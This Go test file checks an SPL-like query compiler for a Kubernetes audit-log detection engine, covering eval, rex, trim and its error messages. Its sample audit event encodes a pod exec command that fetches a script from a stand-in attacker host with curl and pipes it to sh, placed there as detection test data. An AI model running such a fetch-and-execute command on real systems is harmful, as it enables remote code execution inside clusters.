package spl

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/auditdetect/auditdetect/processor/engine"
	"github.com/auditdetect/auditdetect/processor/rule"
)

const execEvent = `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"a1","stage":"ResponseStarted",` +
	`"requestURI":"/api/v1/namespaces/prod/pods/web/exec?command=sh&command=-c&command=curl%20http%3A%2F%2Fevil.example%2Fx.sh%7Csh&container=app&stdin=true",` +
	`"verb":"create","user":{"username":"Alice","groups":["dev","system:authenticated"]},"sourceIPs":["10.0.0.7"],` +
	`"userAgent":"kubectl/v1.30.0","objectRef":{"resource":"pods","namespace":"prod","name":"web","subresource":"exec"},` +
	`"responseStatus":{"code":101},"stageTimestamp":"2026-12-06T05:00:00Z"}`

// evalRows runs `* | <pipeline>` on one event through the engine and returns the rows of its match (none: nil).
func evalRows(t *testing.T, pipeline, body string) []engine.Row {
	t.Helper()
	filter, stages, err := Compile("* | "+pipeline, nil)
	require.NoError(t, err)
	e, err := engine.Compile([]*rule.Rule{{ID: "r", Name: "r", Filter: filter, Pipeline: stages}}, engine.Options{})
	require.NoError(t, err)
	ms, err := e.Match([]byte(body))
	require.NoError(t, err)
	if len(ms) == 0 {
		return nil
	}
	return ms[0].Rows
}

// one returns the single value of field in the only row.
func one(t *testing.T, rows []engine.Row, field string) string {
	t.Helper()
	require.Len(t, rows, 1)
	v := rows[0].Values(field)
	require.Len(t, v, 1, "values of %s in %+v", field, rows[0])
	return v[0]
}

func TestEvalValues(t *testing.T) {
	for _, tc := range []struct{ eval, want string }{
		{`x=lower('user.username')`, "alice"},
		{`x=upper('objectRef.namespace')`, "PROD"},
		{`x='objectRef.namespace'."/".'objectRef.name'`, "prod/web"},
		{`x = 'objectRef.namespace' . "/" . 'objectRef.name'`, "prod/web"},
		{`x=if('objectRef.subresource'="exec", "shell", "other")`, "shell"},
		{`x=if('objectRef.subresource'="Exec", "shell", "other")`, "other"}, // eval compares case-sensitively
		{`x=if(isnull(requestObject), "metadata", "body")`, "metadata"},
		{`x=case(verb="get", "read", verb="create" AND 'objectRef.resource'="pods", "pod write", true(), "other")`, "pod write"},
		{`x=case(verb="get", "read", true(), "other")`, "other"},
		{`x=coalesce('objectRef.apiGroup', 'objectRef.resource', "none")`, "pods"},
		{`x=coalesce(impersonatedUser, "none")`, "none"},
		{`x=replace(userAgent, "^kubectl/v(\d+)\.(\d+).*", "kubectl \1.\2 $")`, "kubectl 1.30 $"},
		{`x=urldecode("a%20b%2Fc")`, "a b/c"},
		{`x=trim("  padded ")`, "padded"},
		// Splunk's trim, ltrim and rtrim: "The <trim_chars> argument is optional. If not specified, spaces and tabs
		// are removed"; `trim(" ZZZZabcZZ ", " Z")` is "abc" (the Search Reference's example).
		{`x=trim(" ZZZZabcZZ ", " Z")`, "abc"},
		{`x=ltrim(" ZZZZabcZZ ", " Z")`, "abcZZ "},
		{`x=rtrim(" ZZZZabcZZ ", " Z")`, " ZZZZabc"},
		{`x=ltrim("  padded ")`, "padded "},
		{`x=rtrim("  padded ")`, "  padded"},
		{`x=trim('objectRef.name', "w")`, "eb"},
		{`x=3.5`, "3.5"},
		{`x=(verb."-".'objectRef.resource')`, "create-pods"},
		// . after a function call or a parenthesised value, and functions inside functions.
		{`x=lower(verb)."-".verb`, "create-create"},
		{`x=(verb)."-"`, "create-"},
		{`x=replace(lower('user.username'), "a", "4") . "!"`, "4lice!"},
		{`x=if('user.username'="Alice", "a", "b")."!"`, "a!"},
		{`a=verb, x=a."!"`, "create!"}, // a later assignment reads an earlier one
	} {
		t.Run(tc.eval, func(t *testing.T) {
			rows := evalRows(t, "eval "+tc.eval+" | stats count by x", execEvent)
			assert.Equal(t, tc.want, one(t, rows, "x"))
		})
	}
}

func TestEvalNulls(t *testing.T) {
	// Each gives x no value, so stats by x has no row: a null operand of `.`, case with no condition holding,
	// null(), a function of a missing field, and a function of a multi-valued field (one value is needed).
	for _, eval := range []string{
		`x=verb . impersonatedUser`,
		`x=case(verb="get", "read")`,
		`x=null()`,
		`x=lower(impersonatedUser)`,
		`x=trim('user.groups{}')`, // "This function is not supported on multivalue fields" (trim, replace, len...)
		`x=ltrim('user.groups{}', "d")`,
		`x=replace('user.groups{}', "d", "D")`,
		`x=if(nosuch="a", "yes", null())`,
	} {
		t.Run(eval, func(t *testing.T) {
			assert.Empty(t, evalRows(t, "eval "+eval+" | stats count by x", execEvent))
		})
	}
	// A null result removes a field an event has: `where isnull(verb)` then holds.
	rows := evalRows(t, `eval verb=null() | where isnull(verb) | stats count by userAgent`, execEvent)
	assert.Equal(t, "kubectl/v1.30.0", one(t, rows, "userAgent"))
}

// lower and upper convert each value of a multi-valued field: "You can use this function on multivalue fields"
// (Splunk Search Reference, Text functions; trim, replace, urldecode and len say "This function is not supported on
// multivalue fields").
func TestEvalCaseOfEachValue(t *testing.T) {
	for eval, want := range map[string][]string{
		`x=lower('user.groups{}')`: {"dev", "system:authenticated"},
		`x=upper('user.groups{}')`: {"DEV", "SYSTEM:AUTHENTICATED"},
	} {
		rows := evalRows(t, "eval "+eval+" | stats count by x", execEvent)
		var got []string
		for _, r := range rows {
			got = append(got, r.Values("x")...)
		}
		assert.ElementsMatch(t, want, got, eval)
	}
}

// trim without its second argument removes spaces and tabs, as Splunk's does, not other white space: a newline
// stays.
func TestEvalTrimSpacesAndTabs(t *testing.T) {
	body := strings.Replace(execEvent, `"userAgent":"kubectl/v1.30.0"`, `"userAgent":" \tkubectl/v1.30.0\t\n"`, 1)
	rows := evalRows(t, "eval x=trim(userAgent) | stats count by x", body)
	assert.Equal(t, "kubectl/v1.30.0\t\n", one(t, rows, "x"))
}

func TestEvalFeedsLaterStages(t *testing.T) {
	// A computed field filters (where), groups (stats by), and a rename and a risk message can read it.
	pipeline := `rex field=requestURI "[?&]command=(?<cmd>[^&]+)" | eval cmd=urldecode(cmd) ` +
		`| where match(cmd, "^sh$") | stats count by cmd user.username | rename cmd as command`
	rows := evalRows(t, pipeline, execEvent)
	assert.Equal(t, "sh", one(t, rows, "command"))
	assert.Empty(t, evalRows(t, strings.Replace(pipeline, `"^sh$"`, `"^bash$"`, 1), execEvent))
}

// TestRexKeepsFieldsItDoesNotCapture: as Splunk's rex, a group that captures nothing leaves the field as it was.
func TestRexKeepsFieldsItDoesNotCapture(t *testing.T) {
	rows := evalRows(t, `rex field=requestURI "(?<verb>exec)\?(?<userAgent>zzz)?" | stats count by verb userAgent`, execEvent)
	require.Len(t, rows, 1)
	assert.Equal(t, []string{"exec"}, rows[0].Values("verb"), "captured")
	assert.Equal(t, []string{"kubectl/v1.30.0"}, rows[0].Values("userAgent"), "not captured: the event's value")
	// A group named as the field it reads does not change what the other groups read.
	rows = evalRows(t, `rex field=verb "(?<verb>cr)(?<rest>.*)" | stats count by verb rest`, execEvent)
	require.Len(t, rows, 1)
	assert.Equal(t, []string{"cr"}, rows[0].Values("verb"))
	assert.Equal(t, []string{"eate"}, rows[0].Values("rest"))
	// field= names a field as eval does, quoted or not.
	rows = evalRows(t, `rex field='user.username' "(?<first>^.)" | stats count by first`, execEvent)
	assert.Equal(t, "A", one(t, rows, "first"))
}

// TestFillnullFillsWhatEvalReads: fillnull without a field list fills the fields later stages read, eval's too.
func TestFillnullFillsWhatEvalReads(t *testing.T) {
	rows := evalRows(t, `fillnull value="-" | eval actor='user.username'."/".'impersonatedUser.username' | stats count by actor`, execEvent)
	assert.Equal(t, "Alice/-", one(t, rows, "actor"))
}

// TestFuzzSeedsCompile: the fuzz target's seeds that use eval and rex are valid searches, so the fuzzer starts from
// accepted forms.
func TestFuzzSeedsCompile(t *testing.T) {
	for _, s := range []string{
		"* | eval x=if(a=\"b\" AND NOT isnull(c), lower('d.e').\"-\".f, case(g>1, \"h\", true(), null())), y=coalesce(x, \"z\")",
		"* | rex field=requestURI max_match=1 \"command=(?<cmd>[^&]+)\" | eval cmd=replace(urldecode(cmd), \"(\\\\w+)\", \"\\\\1\") | stats count by cmd",
		arithSeeds[0], arithSeeds[1],
	} {
		_, _, err := Compile(s, nil)
		assert.NoError(t, err, s)
	}
}

func TestRexGroups(t *testing.T) {
	rows := evalRows(t, `rex field=requestURI "/namespaces/(?<ns>[^/]+)/pods/(?P<pod>[^/]+)/(?<sub>\w+)" `+
		`| stats count by ns pod sub`, execEvent)
	require.Len(t, rows, 1)
	assert.Equal(t, []string{"prod"}, rows[0].Values("ns"))
	assert.Equal(t, []string{"web"}, rows[0].Values("pod"))
	assert.Equal(t, []string{"exec"}, rows[0].Values("sub"))
	// No match: the fields have no value.
	assert.Empty(t, evalRows(t, `rex field=requestURI "/nodes/(?<node>[^/]+)" | stats count by node`, execEvent))
}

func TestEvalCompilesToTheModel(t *testing.T) {
	_, stages, err := Compile(`* | eval x=if(verb="get", lower(userAgent), "w") | rex field=requestURI max_match=1 "(?<p>/api)"`, nil)
	require.NoError(t, err)
	want := []rule.Stage{
		rule.Eval{To: "x", Value: rule.Case{
			Whens: []rule.When{{
				Cond: rule.Compare{Field: fld("verb"), Op: rule.OpEq, Value: rule.Literal("get", true)},
				Then: rule.Call{Func: "to_lower", Args: []rule.Value{rule.FieldValue{Field: fld("userAgent")}}},
			}},
			Else: rule.Constant{Text: "w"},
		}},
		rule.Eval{To: "p", Value: rule.Extract{From: rule.FieldValue{Field: fld("requestURI")}, Regex: "(?<p>/api)", Group: "p",
			Else: rule.FieldValue{Field: fld("p")}}},
	}
	assert.Equal(t, want, stages)
}

func TestEvalErrors(t *testing.T) {
	for _, tc := range []struct{ search, want string }{
		{`* | eval x=user.username`, "write the field user.username in single quotes ('user.username')"},
		{`* | eval x=(verb="get")`, "cannot assign a condition"},
		{`* | eval x=verb="get"`, "cannot assign a condition"},
		{`* | eval x=now()`, "unsupported function now()"},
		{`* | eval x=if(verb="get", "a")`, "if takes if(condition, then, else)"},
		{`* | eval x=case(verb="get")`, "case takes case(condition, value, ...)"},
		{`* | eval x=coalesce()`, `coalesce takes coalesce(value, ..., "default")`},
		{`* | eval x=replace(a, b, "c")`, "must be \"strings\""},
		{`* | eval x=replace(a, "(?=x)", "c")`, "not RE2 syntax"},
		{`* | eval x=null(a)`, "null takes null()"},
		{`* | eval x=trim(a, "b", "c")`, `trim takes trim(value) or trim(value, "characters")`},
		{`* | eval x=ltrim()`, `ltrim takes ltrim(value) or ltrim(value, "characters")`},
		{`* | eval x=rtrim(verb, userAgent)`, `rtrim: the characters to remove must be a "string"`},
		{`* | eval x`, "expected '=' after"},
		{`* | eval "x"=1`, "expected a field name to assign"},
		{`* | eval x=`, "missing value before end of search"},
		{`* | eval x=1 y=2`, "assignments are separated by ','"},
		{`* | eval x=host`, "host is Splunk indexing metadata"},
		{`* | rex "(?<a>x)"`, "rex needs field=<field>"},
		{`* | rex field=requestURI`, "rex needs a regular expression"},
		{`* | rex field=requestURI "(x)"`, "without a named group"},
		{`* | rex field=requestURI mode=sed "s/a/b/"`, `unsupported rex option "mode"`},
		{`* | rex field=requestURI max_match=0 "(?<a>x)"`, "max_match=0 is not supported"},
		{`* | rex field=requestURI "(?<a>x)" "(?<b>y)"`, "found a second"},
		{`* | rex field=requestURI "(?<a>x)++"`, "not RE2 syntax"},
		{`* | rex field=_raw "(?<a>x)"`, "rex field=_raw reads the raw text"},
		{`* | rex field=host "(?<a>x)"`, "host is Splunk indexing metadata"},
		{`* | rex field=requestURI "(?<a>nodes)|(?<a>pods)"`, `the group name "a" is used twice`},
		{`* | rex field=requestURI "` + manyGroups(17) + `"`, "more than 16 named groups"},
		{`* | eval x=if(user.username="a", 1, 2)`, "must be in single quotes"}, // a condition is where syntax
	} {
		t.Run(tc.search, func(t *testing.T) {
			_, _, err := Compile(tc.search, nil)
			require.Error(t, err)
			assert.Contains(t, err.Error(), tc.want)
		})
	}
}

func manyGroups(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "(?<g%d>x)", i)
	}
	return b.String()
}
